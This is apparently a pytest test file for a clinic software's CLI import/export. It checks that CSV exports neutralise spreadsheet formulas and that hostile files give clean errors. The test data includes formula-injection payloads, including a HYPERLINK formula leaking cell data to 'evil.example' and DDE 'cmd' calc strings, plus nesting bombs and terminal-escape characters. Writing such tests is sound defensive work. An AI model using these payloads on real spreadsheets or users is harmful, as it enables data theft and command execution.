"""``doctordesk import`` and ``export`` as processes on SQLite and PostgreSQL, against files made to break them: a
spreadsheet formula in every text field round-trips through CSV without any cell a spreadsheet would run; deep
nesting and other hostile files end in a FILE:LINE error, never a traceback; the summary counts every bad row."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import pytest

from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS
from doctordesk.domain.transfer.import_rows import KIND_ORDER
from doctordesk.services.transfer.import_files import MAX_JSON_DEPTH
from tests.support import processes

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "'=already quoted",
    "＝1+1",
]


def cli(database_url: str, data: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "DOCTORDESK_DATA_DIR": str(data),
        "DOCTORDESK_DATABASE_URL": database_url,
        "DOCTORDESK_ARGON2_TIME_COST": "1",
        "DOCTORDESK_ARGON2_MEMORY_KIB": "1024",
    }
    result = processes.run(["doctordesk", *args], env)
    assert "Traceback" not in result.stderr, result.stderr
    if check:
        assert result.returncode == 0, result.stdout + result.stderr
    return result


def formula_clinic() -> dict[str, list[dict[str, object]]]:
    f = FORMULAS
    return {
        "locations": [{"external_id": "L-1", "name": f[0], "address": f[1], "timezone": "Europe/Berlin"}],
        "doctors": [
            {"external_id": "D-1", "username": "dr.a", "name": f[2], "specialty": f[3], "timezone": "UTC"},
            {"external_id": "D-2", "username": "dr.b", "name": f[4], "specialty": f[5]},
        ],
        "hours": [],
        "patients": [{"external_id": f"P-{i}", "name": name} for i, name in enumerate(f)],
        "policies": [
            {
                "external_id": "I-1",
                "patient": "P-0",
                "insurer": f[1],
                "policy_number": "-42",
                "valid_from": "2026-01-01",
                "valid_to": "2026-12-31",
                "excluded_services": [f[3], "plain"],
                "third_party_data": "\t=cmd|' /C calc'!A0\r\n@x",
            }
        ],
        "appointments": [
            {
                "external_id": "A-1",
                "patient": "P-1",
                "doctor": "D-1",
                "location": "L-1",
                "start": "2026-12-01T09:00:00Z",
                "duration_minutes": 30,
                "status": "declined",
                "service": f[2],
                "decline_reason": "\r=1+1",
            }
        ],
    }


@pytest.mark.slow
def test_formulas_in_every_text_field_round_trip_through_csv_and_no_cell_can_run(database_url, tmp_path):
    data = tmp_path / "data"
    source = tmp_path / "clinic.json"
    source.write_text(json.dumps(formula_clinic()))
    cli(database_url, data, "import", str(source))
    for kind in KIND_ORDER:
        path, again = tmp_path / f"{kind.value}.csv", tmp_path / f"{kind.value}-again.csv"
        cli(database_url, data, "export", "--kind", kind.value, "--output", str(path))
        exported = path.read_bytes()
        cells = [cell for row in csv.reader(io.StringIO(exported.decode(), newline="")) for cell in row]
        assert all(not cell or cell[0] not in FORMULA_STARTS for cell in cells), (kind, exported)
        # Read back, every value is what the JSON file gave: nothing changes, and the next export is the same.
        assert "0 change(s) written" in cli(database_url, data, "import", str(path)).stdout
        cli(database_url, data, "export", "--kind", kind.value, "--output", str(again))
        assert again.read_bytes() == exported
    patients = (tmp_path / "patients.csv").read_text()
    assert "'=HYPERLINK(" in patients and "'-2+3+cmd" in patients and "''=already quoted" in patients
    appointments = (tmp_path / "appointments.csv").read_text()
    assert ",30," in appointments  # a number stays a number


@pytest.mark.slow
def test_hostile_files_end_in_a_file_line_error_and_the_counts_agree(database_url, tmp_path):
    data = tmp_path / "data"
    nested = tmp_path / "patients.json"
    nested.write_text("[\n" + "[" * 50_000 + "]" * 50_000 + "\n]")
    refused = cli(database_url, data, "import", str(nested), check=False)
    assert refused.returncode == 1
    assert f"{nested}:2: nested more than {MAX_JSON_DEPTH} deep" in refused.stderr

    # Three bad rows on one line, two of them with the same external id: three bad rows, said the same everywhere.
    one_line = tmp_path / "locations.json"
    one_line.write_text(
        '[{"external_id": "L-1", "name": "A", "timezone": "Mars/Olympus"}, '
        '{"external_id": "L-1", "name": "", "timezone": "UTC"}, '
        '{"external_id": "L-2", "name": "x\\u202eA", "timezone": "UTC"}]'
    )
    bad = cli(database_url, data, "import", str(one_line), check=False)
    assert bad.returncode == 1
    (counts,) = [line.split() for line in bad.stdout.splitlines() if line.startswith("locations")]
    assert counts[-1] == "3" and "nothing written: 3 bad row(s)" in bad.stdout
    assert f"{one_line}:1: locations: external_id: also on line 1" in bad.stderr
    assert "contains an invisible or control character (U+202E)" in bad.stderr

    skipped = cli(database_url, data, "import", str(one_line), "--skip-invalid", check=False)
    assert "0 change(s) written, 3 bad row(s) skipped" in skipped.stdout

    # An unknown field's name is printed with its invisible characters escaped, not sent to the terminal.
    sneaky = tmp_path / "patients.csv"
    sneaky.write_bytes('external_id,name,"x\x1b[2J\u202e"\nP-1,A,1\n'.encode())
    shown = cli(database_url, data, "import", str(sneaky), check=False)
    assert "\x1b" not in shown.stderr and "\u202e" not in shown.stderr and "x\\x1b[2J\\u202e" in shown.stderr

    far = tmp_path / "appointments.json"
    far.write_text(
        json.dumps(
            [
                {"external_id": "A-1", "patient": "P", "doctor": "D", "location": "L", "start": start}
                for start in ("0001-01-01T00:30:00+14:00", "9999-12-31T23:30:00-12:00")
            ]
        )
    )
    out_of_range = cli(database_url, data, "import", str(far), check=False)
    assert out_of_range.returncode == 1 and out_of_range.stderr.count(": start: ") == 2
